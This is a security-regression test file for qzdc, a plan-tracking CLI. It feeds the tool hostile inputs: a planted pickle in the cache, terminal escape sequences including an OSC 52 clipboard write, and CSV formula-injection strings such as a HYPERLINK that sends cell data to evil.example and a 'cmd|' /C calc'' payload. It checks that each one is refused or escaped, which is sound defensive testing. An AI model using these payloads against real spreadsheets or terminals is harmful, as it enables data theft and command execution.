"""Hostile and broken inputs (issue #17): each attack, with the exact message and exit code it must get.

Every test here reproduces one finding of the adversarial pass: the input that
got through, and what qzdc must do with it instead.
"""

from __future__ import annotations

import dataclasses
import json
import os
import re
import stat
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from conftest import edit
from qzdc.cli.app import app
from qzdc.errors import UsageError
from qzdc.plan.loader import load_plan
from qzdc.plan.lookup import find_department, find_indicator, name_key
from qzdc.plan.models import Plan

# Messages are checked word for word, in English (their Chinese: tests/test_i18n.py).
pytestmark = pytest.mark.usefixtures("english")

HALF = "乡村医生执业(助理)医师比例"  # half-width brackets
FULL = "乡村医生执业（助理）医师比例"  # full-width, as the built-in plan writes it


@pytest.fixture
def run(cli):
    """`cli`, also failing on any traceback in the output."""

    def go(*args: str, env: dict[str, str] | None = None):
        result = CliRunner().invoke(app, list(args), env=env)
        crash = result.exception
        assert crash is None or isinstance(crash, SystemExit), f"qzdc crashed: {crash!r}"
        assert "Traceback" not in result.stderr + result.stdout
        return result

    return go


def place(path: Path, needle: str) -> tuple[int, int]:
    """1-based (line, column) of the first `needle` in the file."""
    text = path.read_text(encoding="utf-8")
    index = text.index(needle)
    return text.count("\n", 0, index) + 1, index - (text.rfind("\n", 0, index) + 1) + 1


# ── 5. a figure on the wrong indicator ───────────────────────────────────────


def test_names_differing_only_in_bracket_width_are_a_validation_error(run, plan_copy):
    path = plan_copy / "indicators.yaml"
    edit(path, "    name: 粮食播种面积\n", f"    name: {HALF}\n")
    line, col = place(path, f"name: {HALF}")
    result = run("validate", "--plan", str(plan_copy))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{path}:{line}:{col + len('name: ')}: indicators[27].name: "
        f"'{HALF}' reads as the same name as '{FULL}' at indicators[23].name "
        "(names are compared ignoring full- or half-width forms, quotes, spaces and case; "
        "make them differ by more, or write one name the same way everywhere)"
    )
    # The attack itself: record by the exact name of one of the two writes nothing.
    recorded = run("record", HALF, "2024", "28", "--plan", str(plan_copy))
    assert recorded.exit_code == 1
    assert f"'{HALF}' reads as the same name as '{FULL}'" in recorded.stderr
    assert not Path("actuals.yaml").exists()


def test_category_and_department_names_that_collide_are_validation_errors(run, plan_copy):
    edit(plan_copy / "plan.yaml", "    name_en: Innovation\n", "    name_en: ECONOMY\n")
    tasks = plan_copy / "tasks.yaml"
    # Task 2 names 区经济信息委 as task 1 does, but with a full-width space inside.
    edit(tasks, "lead: [区科技局, 区经济信息委]", "lead: [区科技局, 区经济\u3000信息委]")
    line, col = place(tasks, "区经济\u3000信息委")
    result = run("validate", "--plan", str(plan_copy), "--format", "json")
    assert result.exit_code == 1
    messages = [e["message"] for e in json.loads(result.stdout)["errors"]]
    assert "'ECONOMY' reads as the same name as 'economy' at categories[0].id" in messages
    errors = json.loads(result.stdout)["errors"]
    [department] = [e for e in errors if e["file"] == str(tasks)]
    assert (department["line"], department["column"], department["field"]) == (line, col, "tasks[1].lead[1]")
    assert (
        department["message"] == "'区经济\\u3000信息委' reads as the same name as '区经济信息委' at tasks[0].support[1]"
    )


def test_the_builtin_plan_has_no_colliding_names():
    plan = load_plan()
    keys = [name_key(n) for i in plan.indicators for n in {i.name, i.name_en}]
    assert len(keys) == len(set(keys))


def _twins(first: str, second: str) -> Plan:
    """The built-in plan, unvalidated, with two indicators named `first` and `second` (in that order)."""
    plan = load_plan()
    indicators = list(plan.indicators)
    a = next(i for i, ind in enumerate(indicators) if ind.id == "village_doctors_licensed_share")
    b = next(i for i, ind in enumerate(indicators) if ind.id == "grain_sown_area")
    indicators[a] = dataclasses.replace(indicators[a], name=first)
    indicators[b] = dataclasses.replace(indicators[b], name=second)
    return dataclasses.replace(plan, indicators=indicators)


@pytest.mark.parametrize(("first", "second"), [(FULL, HALF), (HALF, FULL)])
def test_an_exact_name_always_wins_over_a_normalised_one(first, second):
    plan = _twins(first, second)
    assert find_indicator(plan, first).id == "village_doctors_licensed_share"
    assert find_indicator(plan, second).id == "grain_sown_area"
    # Typed some third way, the name matches both: refused rather than guessed.
    with pytest.raises(UsageError) as caught:
        find_indicator(plan, "乡村医生执业 (助理) 医师比例")
    assert caught.value.message == (
        f"'乡村医生执业 (助理) 医师比例' names more than one indicator: "
        f"{first} (village_doctors_licensed_share), {second} (grain_sown_area)"
    )


def test_a_name_typed_loosely_finds_the_one_indicator(run):
    result = run("record", HALF, "2024", "28")
    assert result.exit_code == 0, result.stderr
    assert "indicator: village_doctors_licensed_share" in Path("actuals.yaml").read_text(encoding="utf-8")
    assert run("status", "--category", "ＥＣＯＮＯＭＹ", "--format", "json").exit_code == 0


def test_departments_are_found_in_the_same_normalised_form():
    assert (
        find_department(["区农业农村委（区乡村振兴局）"], "区农业农村委(区乡村振兴局)")
        == "区农业农村委（区乡村振兴局）"
    )
    assert find_department(["区农业农村委"], "区农业农村委 ") == "区农业农村委"
    assert find_department(["区农业农村委"], "区农业委") is None


# ── 8. huge numbers are refused before writing, and reported by every reader ──

BIG = "9" * 400  # fits a Python int, not a float
HUGE = "9" * 5000  # beyond Python's 4,300-digit limit for reading an integer


def test_record_refuses_a_value_beyond_a_float_and_writes_nothing(run):
    result = run("record", "gdp", "2024", BIG)
    assert result.exit_code == 1
    assert result.stderr == (
        f"qzdc: error: Gross regional product: '{BIG[:58]}… is out of range: a figure lies within ±10^15 (check the number of digits)\n"
    )
    assert not Path("actuals.yaml").exists()


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (HUGE, f"'{HUGE[:58]}…"),
        ("1e400", "'1e400'"),
        ("1e16", "'1e16'"),
        ("-2e15", "'-2e15'"),
        ("1e99999999999999999999", "'1e99999999999999999999'"),
        ("1e-99999999999999999999", "'1e-99999999999999999999'"),
    ],
    ids=["5000 digits", "1e400", "1e16", "-2e15", "exponent beyond Decimal", "negative exponent beyond Decimal"],
)
def test_record_refuses_every_value_out_of_range(run, value, shown):
    result = run("record", "gdp", "2024", value)
    assert result.exit_code == 1
    assert result.stderr == (
        f"qzdc: error: Gross regional product: {shown} is out of range: a figure lies within ±10^15 (check the number of digits)\n"
    )
    assert not Path("actuals.yaml").exists()


def test_record_takes_a_value_at_the_limit_and_leading_zeros(run):
    assert run("record", "gdp", "2024", "1000000000000000").exit_code == 0
    assert run("record", "gdp", "2024", "0" * 5000 + "81.5").exit_code == 0
    text = Path("actuals.yaml").read_text(encoding="utf-8")
    assert "value: 1000000000000000\n" in text
    assert "value: 81.5\n" in text


def test_a_period_too_long_to_read_is_a_usage_error(run):
    result = run("record", "gdp", BIG, "81.2")
    assert result.exit_code == 2
    assert result.stderr == (
        f"qzdc: error: '{BIG[:58]}… is not a period: write a year (2024), a quarter (2025-Q3) or a month (2025-09)\n"
    )


def test_import_refuses_a_huge_value_and_writes_nothing(run):
    Path("figures.csv").write_text(f"indicator,period,value\ngdp,2024,{BIG}\n", encoding="utf-8")
    result = run("import", "figures.csv")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"figures.csv:2:3: C2 value: Gross regional product: '{BIG[:58]}… is out of range: a figure lies within ±10^15 "
        "(check the number of digits)",
        "qzdc: figures.csv: 1 bad cell(s) in 1 row(s); nothing was imported",
    ]
    assert not Path("actuals.yaml").exists()


DIGITS = " (check the number of digits)"
RANGE = "is out of range: a figure lies within ±10^15"
HAND_EDITED = [
    (f"value: {BIG}", f"4:12: actuals[0].value: Gross regional product: a 400-digit number {RANGE}{DIGITS}"),
    (f"value: {HUGE}", f"4:12: a whole number of 5000 digits is too long to read{DIGITS}"),
    ("value: 1.5e+300", f"4:12: actuals[0].value: Gross regional product: 1.5e+300 {RANGE}{DIGITS}"),
    ("value: 1.0e+999", "4:12: '1.0e+999' is not a finite number (write the figure, or null where there is none)"),
]


@pytest.mark.parametrize(("line", "message"), HAND_EDITED, ids=["400 digits", "5000 digits", "1.5e+300", "1.0e+999"])
@pytest.mark.parametrize(
    "command",
    [["status"], ["status", "--format", "json"], ["show", "gdp"], ["history", "gdp"], ["report"], ["audit"]],
    ids=lambda c: " ".join(c),
)
def test_every_reader_reports_a_hand_edited_huge_value_as_bad_data(run, command, line, message):
    Path("actuals.yaml").write_text(f"actuals:\n  - indicator: gdp\n    period: 2024\n    {line}\n", encoding="utf-8")
    result = run(*command)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.splitlines() == [f"actuals.yaml:{message}", "qzdc: actuals.yaml has 1 problem(s)"]


def test_a_huge_period_in_a_hand_edited_file_is_bad_data(run):
    Path("actuals.yaml").write_text(
        f"actuals:\n  - indicator: gdp\n    period: {HUGE}\n    value: 3\n", encoding="utf-8"
    )
    result = run("history", "gdp")
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        "actuals.yaml:3:13: a whole number of 5000 digits is too long to read (check the number of digits)"
    )


def test_batch_reports_a_plan_with_a_huge_value_and_goes_on(run, plan_copy, tmp_path):
    good = tmp_path / "good"
    good.mkdir()
    for name in ("plan.yaml", "indicators.yaml", "tasks.yaml", "observations.yaml"):
        (good / name).write_bytes((plan_copy / name).read_bytes())
    (plan_copy / "actuals.yaml").write_text(
        f"actuals:\n  - indicator: gdp\n    period: 2024\n    value: {BIG}\n", encoding="utf-8"
    )
    result = run("batch", str(plan_copy), str(good), "--format", "jsonl")
    assert result.exit_code == 1
    assert len(result.stdout.splitlines()) == 40  # every target of the good plan
    assert (
        f"{plan_copy / 'actuals.yaml'}:4:12: actuals[0].value: Gross regional product: a 400-digit number is out of range"
        in result.stderr
    )


def test_a_plan_file_with_an_integer_too_long_to_read(run, plan_copy):
    path = plan_copy / "indicators.yaml"
    edit(
        path, "value: 30\n        source: {ref: 附件1 序号24}", f"value: {HUGE}\n        source: {{ref: 附件1 序号24}}"
    )
    line, col = place(path, HUGE)
    result = run("validate", "--plan", str(plan_copy))
    assert result.exit_code == 1
    assert result.stderr.splitlines()[0] == (
        f"{path}:{line}:{col}: a whole number of 5000 digits is too long to read (check the number of digits)"
    )


# ── 1. the plan cache never runs planted code, and is read only where no one else writes ──


def _builtin_key() -> str:
    from qzdc.plan import cache
    from qzdc.plan.loader import FILES, builtin_plan_dir

    base = builtin_plan_dir()
    return cache.key(
        [(name, (base / name).read_bytes() if (base / name).exists() else None) for name, _, _ in FILES.values()]
    )


class _Planted:
    """Unpickling this creates the marker directory: what a planted pickle could do, harmlessly."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        import os

        return (os.mkdir, (self.marker,))


def test_a_planted_pickle_in_the_cache_runs_nothing(tmp_path):
    import os
    import pickle
    import subprocess
    import sys

    root = tmp_path / "cache"
    (root / "plans").mkdir(parents=True, mode=0o700)
    root.chmod(0o700)
    marker = tmp_path / "planted-code-ran"
    payload = pickle.dumps(_Planted(marker))
    key = _builtin_key()
    # Where the pickle cache kept its entries, and where the JSON cache keeps them.
    for name in (f"{key}.pickle", f"{key}.json"):
        (root / "plans" / name).write_bytes(payload)
        (root / "plans" / name).chmod(0o600)
    # The child imports the same qzdc as this process (no PYTHONPATH of its own): the cache key fingerprints the
    # code, and where CI installs qzdc as a wheel, the checkout's src/ would give another key.
    env = {**os.environ, "QZDC_CACHE_DIR": str(root), "QZDC_LANG": "zh"}
    result = subprocess.run(
        [sys.executable, "-m", "qzdc", "status", "--format", "json"],
        cwd=tmp_path,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert not marker.exists(), "planted code ran"
    assert result.returncode == 0, result.stderr
    # nothing on stderr but which actuals file was read (none here)
    assert result.stderr.splitlines() == ["qzdc：尚未录入数据：无 actuals.yaml"]
    assert json.loads(result.stdout)["summary"]["at_risk"] == 1
    # The unreadable entry was replaced by plain data.
    assert json.loads((root / "plans" / f"{key}.json").read_text(encoding="utf-8"))["~"] == "Plan"


def _planted_plan(root: Path) -> Path:
    """A valid cache entry for the built-in plan whose tech_smes target says 999 instead of 205."""
    from qzdc.plan import cache

    plan = load_plan()
    target = plan.targets_by_id["tech_smes"]
    changed = dataclasses.replace(
        plan, targets=[dataclasses.replace(t, value=999) if t is target else t for t in plan.targets]
    )
    (root / "plans").mkdir(parents=True, exist_ok=True)
    entry = root / "plans" / f"{_builtin_key()}.json"
    entry.write_bytes(cache.dumps(changed))
    entry.chmod(0o600)
    return entry


def _unsafe_cache(root: Path, how: str) -> tuple[Path, str]:
    """Make the cache unsafe `how`; return the path the note names and why."""
    import os

    root.mkdir(mode=0o700)
    entry = _planted_plan(root)
    root.chmod(0o700)
    (root / "plans").chmod(0o700)
    if how == "directory writable by others":
        root.chmod(0o777)
        return root, "others may write to it"
    if how == "plans directory writable by its group":
        (root / "plans").chmod(0o770)
        return root / "plans", "others may write to it"
    if how == "entry writable by others":
        entry.chmod(0o666)
        return entry, "others may write to it"
    if how == "directory of another user":
        os.chown(root, 4242, 4242)
        return root, "it belongs to another user"
    if how == "entry of another user":
        os.chown(entry, 4242, 4242)
        return entry, "it belongs to another user"
    raise AssertionError(how)


UNSAFE = [
    "directory writable by others",
    "plans directory writable by its group",
    "entry writable by others",
    "directory of another user",
    "entry of another user",
]


@pytest.mark.parametrize("how", UNSAFE)
def test_a_cache_someone_else_could_write_is_not_used(tmp_path, monkeypatch, capsys, how):
    import os

    if "another user" in how and (not hasattr(os, "geteuid") or os.geteuid() != 0):
        pytest.skip("giving a file to another user needs root")
    root = tmp_path / "shared-cache"
    monkeypatch.setenv("QZDC_CACHE_DIR", str(root))
    named, why = _unsafe_cache(root, how)
    plan = load_plan()
    assert plan.targets_by_id["tech_smes"].value == 205  # read from the plan's files, not the planted entry
    assert capsys.readouterr().err == (
        f"qzdc: note: the plan cache {named} is not used: {why} "
        "(qzdc reads its cache only from a directory no one else can write to)\n"
    )


def test_a_cache_entry_that_is_a_link_is_not_followed(tmp_path, monkeypatch, capsys):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir(mode=0o700)
    planted = _planted_plan(elsewhere)
    root = tmp_path / "linked-cache"
    monkeypatch.setenv("QZDC_CACHE_DIR", str(root))
    (root / "plans").mkdir(parents=True, mode=0o700)
    root.chmod(0o700)
    (root / "plans" / planted.name).symlink_to(planted)
    assert load_plan().targets_by_id["tech_smes"].value == 205
    assert capsys.readouterr().err == ""


def test_a_safe_cache_is_used_and_made_private(tmp_path, monkeypatch):
    import stat

    root = tmp_path / "private-cache"
    monkeypatch.setenv("QZDC_CACHE_DIR", str(root))
    load_plan()
    (entry,) = (root / "plans").iterdir()
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600
    assert stat.S_IMODE((root / "plans").stat().st_mode) == 0o700
    # What the cache holds is what is used: a safe entry is trusted as the user's own.
    _planted_plan(root)
    assert load_plan().targets_by_id["tech_smes"].value == 999


# ── 15. property tests: derandomized in CI, exploring locally ─────────────────


@pytest.mark.parametrize(("ci", "expected"), [("1", "True False"), ("", "False True")])
def test_ci_runs_property_tests_derandomized_and_local_runs_explore(ci, expected):
    import os
    import subprocess
    import sys

    here = Path(__file__).parent
    probe = (
        "import conftest, test_engine_properties as t\nprint(t.SETTINGS.derandomize, t.SETTINGS.database is not None)\n"
    )
    env = {k: v for k, v in os.environ.items() if k not in ("CI", "HYPOTHESIS_PROFILE")}
    env["PYTHONPATH"] = os.pathsep.join([str(here), str(here.parent / "src")])
    if ci:
        env["CI"] = ci
    result = subprocess.run([sys.executable, "-c", probe], cwd=here, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == expected


def test_a_pace_against_a_subnormal_requirement_keeps_its_sign():
    import sys

    from qzdc.engine.formulas import pace_ratio

    # −0.00668 / 2.2e-311 is about −3e308: beyond the floats, so held at the largest one, negative.
    assert pace_ratio(-0.00668, 2.2e-311) == -sys.float_info.max
    assert pace_ratio(0.00668, 2.2e-311) == sys.float_info.max
    assert pace_ratio(0.03, 0.04) == pytest.approx(0.75)  # 3 % a year against 4 % needed
    assert pace_ratio(0.03, 0.0) is None
    assert pace_ratio(None, 0.04) is None


# ── 9. numbers near the float limit: no infinity at any output; batch goes on ──

TECH_BASELINE = "baseline: {year: 2022, value: 100, source: {ref: 附件1 序号10}}"


def _strict_json(text: str):
    """JSON as any other program reads it: Infinity and NaN are not JSON."""

    def refuse(name: str):
        raise AssertionError(f"{name} in the JSON output")

    return json.loads(text, parse_constant=refuse)


@pytest.fixture
def huge_target(plan_copy):
    """tech_smes (科技型企业, a count) with a target of 1e308 and a recorded 2024 figure of 1."""
    edit(plan_copy / "indicators.yaml", "        value: 205\n", "        value: 1.0e+308\n")
    (plan_copy / "actuals.yaml").write_text(
        "actuals:\n  - {indicator: tech_smes, period: 2024, value: 1}\n", encoding="utf-8"
    )
    return plan_copy


def test_status_and_show_json_hold_no_infinity(run, huge_target):
    actuals = str(huge_target / "actuals.yaml")
    status = run("status", "--plan", str(huge_target), "--actuals", actuals, "--format", "json")
    assert status.exit_code == 0, status.stderr
    [tech] = [t for t in _strict_json(status.stdout)["targets"] if t["id"] == "tech_smes"]
    # From 1 in 2024 to 1e308 in 2025 needs 1e308× growth: as a percent it overflows, so it is null.
    assert tech["required_now"] == {"value": None, "type": "rate_pct"}
    # 100 in 2022 to 1 in 2024 is −90 % a year against ~1e102 a year needed: R ≈ −9e-103, held at −1e-9.
    assert tech["status"] == "moving_away"
    assert tech["pace_ratio"] == -1e-9
    show = run("show", "tech_smes", "--plan", str(huge_target), "--actuals", actuals, "--format", "json")
    assert show.exit_code == 0, show.stderr
    _strict_json(show.stdout)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_batch_json_holds_no_infinity(run, huge_target, fmt):
    result = run("batch", str(huge_target), "--format", fmt)
    assert result.exit_code == 0, result.stderr
    for line in result.stdout.splitlines() if fmt == "jsonl" else [result.stdout]:
        _strict_json(line)


def test_a_path_from_1e_308_to_1e308_is_shown_by_its_size(run, plan_copy):
    edit(plan_copy / "indicators.yaml", TECH_BASELINE, TECH_BASELINE.replace("value: 100", "value: 1.0e-308"))
    edit(plan_copy / "indicators.yaml", "        value: 205\n", "        value: 1.0e+308\n")
    result = run("show", "tech_smes", "--plan", str(plan_copy), "--lang", "zh")
    assert result.exit_code == 0, result.stderr
    assert "目标：1.000e308 (2025)" in result.stdout
    as_json = run("show", "tech_smes", "--plan", str(plan_copy), "--format", "json")
    assert as_json.exit_code == 0
    _strict_json(as_json.stdout)


def test_the_html_report_of_running_sums_beyond_the_floats(run, plan_copy, tmp_path):
    """Two plan figures of 1e308 sum to infinity: the chart is left out, the report is written."""
    with (plan_copy / "observations.yaml").open("a", encoding="utf-8") as f:
        for year in (2023, 2024):
            f.write(f"  - {{indicator: contracted_investment, period: {year}, value: 1.0e+308, source: {{ref: x}}}}\n")
    out = tmp_path / "r.html"
    result = run("report", "--plan", str(plan_copy), "-o", str(out))
    assert result.exit_code == 0, result.stderr
    assert result.stderr == f"wrote {out}\n"
    page = out.read_text(encoding="utf-8")
    assert 'id="chart-contracted_investment"' not in page
    # its sibling, a running sum too with nothing recorded, is still listed (among the targets without data)
    assert '<tr class="no-data-row" data-target="new_investment_projects">' in page
    shown = run("show", "contracted_investment", "--plan", str(plan_copy))
    assert shown.exit_code == 0, shown.stderr
    assert "1.000e308" in shown.stdout


@pytest.mark.parametrize("stage", ["reading", "writing"])
@pytest.mark.parametrize("fmt", ["jsonl", "csv", "json", "table", "markdown"])
def test_batch_reports_a_plan_qzdc_fails_on_and_goes_on(run, plan_copy, tmp_path, monkeypatch, stage, fmt):
    import qzdc.report.batch
    import qzdc.views.batch

    other = tmp_path / "other"
    other.mkdir()
    for name in ("plan.yaml", "indicators.yaml", "tasks.yaml", "observations.yaml"):
        (other / name).write_bytes((plan_copy / name).read_bytes())
    if stage == "reading":
        real = qzdc.views.batch.build_status

        def build_status(plan, *args, **kwargs):
            if plan.source_dir == str(plan_copy):
                raise ZeroDivisionError("float division by zero")
            return real(plan, *args, **kwargs)

        monkeypatch.setattr(qzdc.views.batch, "build_status", build_status)
    else:
        real_records = qzdc.report.batch.records

        def records(result):
            if result.directory == str(plan_copy):
                raise ValueError("Out of range float values are not JSON compliant")
            return real_records(result)

        monkeypatch.setattr(qzdc.report.batch, "records", records)
        if fmt in ("table", "markdown"):
            pytest.skip("these formats write no records")
    result = run("batch", str(plan_copy), str(other), "--format", fmt, "--lang", "en")
    assert result.exit_code == 1
    why = (
        "ZeroDivisionError: float division by zero"
        if stage == "reading"
        else ("ValueError: Out of range float values are not JSON compliant")
    )
    assert result.stderr.splitlines() == [
        f"qzdc: {plan_copy}: qzdc failed on this plan ({why}) (this is a bug in qzdc: please report it with the plan)",
        f"qzdc: error: 1 of 2 plan(s) failed: {plan_copy}",
    ]
    # The other plan's 40 targets are all there.
    lines = result.stdout.splitlines()
    if fmt == "jsonl":
        assert len(lines) == 40
    elif fmt == "csv":
        assert len(lines) == 1 + 40
    elif fmt == "json":
        assert len(_strict_json(result.stdout)["targets"]) == 40
    elif fmt == "markdown":
        assert len([line for line in lines if line.startswith("| ")]) == 2 + 40
    else:
        assert "failed" in result.stdout and "Wangu town" in result.stdout  # the plan by its town


# ── 10. a seasonal profile with nothing due in the first quarter ──────────────


def test_a_profile_starting_at_zero_leaves_the_first_quarter_unjudged(run, plan_copy):
    edit(
        plan_copy / "indicators.yaml",
        "        value: 7500\n        source: {ref: 附件1 序号6}\n",
        "        value: 7500\n        source: {ref: 附件1 序号6}\n        profile: [0, 30, 60, 100]\n",
    )
    (plan_copy / "actuals.yaml").write_text(
        "actuals:\n  - {indicator: exports, period: 2024-Q1, value: 100}\n", encoding="utf-8"
    )
    args = ["--plan", str(plan_copy), "--actuals", str(plan_copy / "actuals.yaml")]
    for command in (["status"], ["show", "exports"], ["report"], ["status", "--as-of", "2024-02"]):
        result = run(*command, *args)
        assert result.exit_code == 0, (command, result.stderr)
    status = _strict_json(run("status", "--format", "json", "--lang", "en", *args).stdout)
    [exports] = [t for t in status["targets"] if t["id"] == "exports"]
    assert exports["status"] == "no_data"
    assert exports["notes"][0] == (
        "nothing of the year is due by 2024-Q1 by the seasonal profile: "
        "the figure to date (100) cannot be scaled to the year and is not judged"
    )
    # With a second quarter in, 30 % of 2024's path value 6090 · (7500/6090)^(2/3) = 6997.02 is due, 2099.11:
    # 2400 so far is R = 1.14, on track (and about 2400/0.3 = 8000 for the year).
    with (plan_copy / "actuals.yaml").open("a", encoding="utf-8") as f:
        f.write("  - {indicator: exports, period: 2024-Q2, value: 2400}\n")
    status = _strict_json(run("status", "--format", "json", "--lang", "en", *args).stdout)
    [exports] = [t for t in status["targets"] if t["id"] == "exports"]
    assert exports["status"] == "on_track"
    assert (
        "yearly flow: 2400 to 2024-Q2 against 2099.11 due, 30 % of 6997.02 (2024 on the path) by the seasonal "
        "profile; at that pace about 8000 for 2024" in exports["notes"]
    )


def test_a_real_pace_against_an_enormous_requirement_keeps_its_sign():
    from qzdc.engine.formulas import pace_ratio

    # −0.99999684 a year against +999999917 (1e11 %) still needed: R ≈ −1e-9 · 0.99999… → held at −1e-9.
    assert pace_ratio(-0.999996837722209, 99999991724.96358) == -1e-9
    # Float noise in the pace itself (a difference of 1e-16) stays noise, printed as 0.
    assert pace_ratio(-1e-16, 0.05) == pytest.approx(-2e-15)


# ── 2. control characters in plan or actuals text never reach a terminal raw ──

# Clear the screen, write the clipboard (OSC 52, ended by BEL), ring, a one-byte C1 CSI, a carriage return.
ATTACK = "地区\x1b[2J生产\x1b]52;c;aGVsbG8=\x07总值\x9b6n\r"
ATTACK_YAML = '"地区\\e[2J生产\\e]52;c;aGVsbG8=\\a总值\\x9b6n\\r"'
SHOWN = "地区\\x1b[2J生产\\x1b]52;c;aGVsbG8=\\x07总值\\x9b6n\\r"
# The colour codes qzdc writes on purpose (SGR: ESC [ … m); every other control character is an attack.
_SGR = re.compile(r"\x1b\[[0-9;]*m")
_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def raw_controls(text: str) -> list[str]:
    return _RAW_CONTROL.findall(_SGR.sub("", text))


@pytest.fixture
def hostile_plan(plan_copy):
    """The built-in plan with control characters in an indicator's name, a task, a department and an actuals note."""
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {ATTACK_YAML}\n")
    edit(plan_copy / "indicators.yaml", "    name_en: Gross regional product\n", f"    name_en: {ATTACK_YAML}\n")
    edit(plan_copy / "tasks.yaml", "    name: 打造百亿级产业集群\n", f"    name: {ATTACK_YAML}\n")
    edit(
        plan_copy / "tasks.yaml",
        "    lead: [大足高新区]\n    support: [区发展改革委",
        f"    lead: [{ATTACK_YAML}]\n    support: [区发展改革委",
    )
    (plan_copy / "actuals.yaml").write_text(
        f"actuals:\n  - {{indicator: gdp, period: 2024, value: 81.2, source: {ATTACK_YAML}, note: {ATTACK_YAML}}}\n",
        encoding="utf-8",
    )
    return plan_copy


HOSTILE_COMMANDS = [
    ["status"],
    ["status", "--lang", "en"],
    ["show", "gdp"],
    ["history", "gdp"],
    ["tasks"],
    ["owners"],
    ["owners", ATTACK],
    ["indicators"],
    ["audit"],
    ["report"],
    ["status", "--format", "markdown"],
    ["status", "--format", "json"],
    ["status", "--format", "csv"],
    ["history", "gdp", "--format", "csv"],
    ["indicators", "--format", "json"],
]
_NO_ACTUALS = ("tasks", "owners", "indicators")


@pytest.mark.parametrize("command", HOSTILE_COMMANDS, ids=lambda c: " ".join(c).replace(ATTACK, "ATTACK"))
def test_control_characters_in_plan_text_never_reach_the_output_raw(run, hostile_plan, command):
    args = ["--plan", str(hostile_plan)]
    if command[0] not in _NO_ACTUALS:
        args += ["--actuals", str(hostile_plan / "actuals.yaml")]
    result = run(*command, *args)
    assert result.exit_code == 0, result.stderr
    assert raw_controls(result.stdout) == []
    assert raw_controls(result.stderr) == []
    if "audit" not in command:  # the audit quotes none of these names
        # Seen as an escape: \x1b as text (doubled in Markdown), \u001b in JSON.
        assert "x1b" in result.stdout or "u001b" in result.stdout


def test_import_dry_run_shows_control_characters_as_escapes(run):
    Path("figures.csv").write_text(f"indicator,period,value,source\ngdp,2024,81.2,{ATTACK}\n", encoding="utf-8")
    result = run("import", "figures.csv", "--dry-run")
    assert result.exit_code == 0, result.stderr
    assert raw_controls(result.stdout + result.stderr) == []
    assert SHOWN.replace("\\r", "") in result.stdout.replace("\n", "") or "\\x1b[2J" in result.stdout


def test_an_unknown_name_quoted_in_an_error_shows_its_control_characters_as_escapes(run):
    result = run("show", "gdp\x1b]0;owned\x07")
    assert result.exit_code == 2
    assert raw_controls(result.stderr) == []
    assert result.stderr.startswith("qzdc: ")
    assert "\\x1b]0;owned\\x07" in result.stderr


def test_a_note_on_stderr_from_deep_inside_qzdc_is_escaped_too(run):
    result = run("status", "--actuals", "missing\x1b[31m.yaml", "--format", "json")
    assert result.exit_code == 0
    assert raw_controls(result.stderr) == []
    assert "missing\\x1b[31m.yaml" in result.stderr


def test_on_a_terminal_only_qzdcs_own_colours_are_escape_sequences(hostile_plan, tmp_path):
    """A real pseudo-terminal: the rich tables and the document of `show`, coloured."""
    import os
    import pty
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src"), "COLUMNS": "160", "TERM": "xterm"}
    env.pop("NO_COLOR", None)
    for command in (["status"], ["show", "gdp"], ["history", "gdp"], ["tasks"], ["owners"]):
        leader, follower = pty.openpty()
        args = ["--plan", str(hostile_plan)]
        if command[0] not in _NO_ACTUALS:
            args += ["--actuals", str(hostile_plan / "actuals.yaml")]
        chunks: list[bytes] = []

        def drain(fd: int = leader, chunks: list[bytes] = chunks) -> None:
            # Read while qzdc writes: a table larger than the terminal's buffer would otherwise block it.
            while True:
                try:
                    chunk = os.read(fd, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                chunks.append(chunk)

        import threading

        reader = threading.Thread(target=drain)
        reader.start()
        proc = subprocess.run(
            [sys.executable, "-m", "qzdc", *command, *args],
            stdout=follower,
            stderr=subprocess.PIPE,
            cwd=tmp_path,
            env=env,
            timeout=120,
        )
        os.close(follower)
        reader.join(timeout=30)
        os.close(leader)
        out = b"".join(chunks).decode("utf-8", "replace").replace("\r\n", "\n")
        assert proc.returncode == 0, proc.stderr
        assert "\x1b[" in out, "a terminal gets colour"
        assert raw_controls(out) == [], command
        assert "\\x1b[2J" in out


# ── 3. formula cells in CSV ──────────────────────────────────────────────────

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("formula", FORMULAS, ids=["=HYPERLINK", "@SUM", "+", "-", "tab", "CR"])
def test_csv_text_that_starts_like_a_formula_is_written_as_text(formula):
    from qzdc.render.formats import csv_value

    cell = csv_value(formula)
    assert cell.startswith("'") or cell.startswith("\\r")
    assert cell[0] not in "=+-@\t\r"
    # Numbers are never touched: −2.5 stays a number Excel can add up.
    assert csv_value(-2.5) == "-2.5"
    assert csv_value(-3) == -3


@pytest.fixture
def formula_plan(plan_copy):
    hyperlink = '=HYPERLINK("http://evil.example/","x")'
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: '{hyperlink}'\n")
    edit(plan_copy / "tasks.yaml", "    name: 打造百亿级产业集群\n", "    name: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n")
    edit(
        plan_copy / "tasks.yaml",
        "    lead: [大足高新区]\n    support: [区发展改革委",
        '    lead: ["-2+3"]\n    support: [区发展改革委',
    )
    (plan_copy / "actuals.yaml").write_text(
        'actuals:\n  - {indicator: gdp, period: 2024, value: 81.2, source: "+1+1", note: "=1+1"}\n', encoding="utf-8"
    )
    return plan_copy


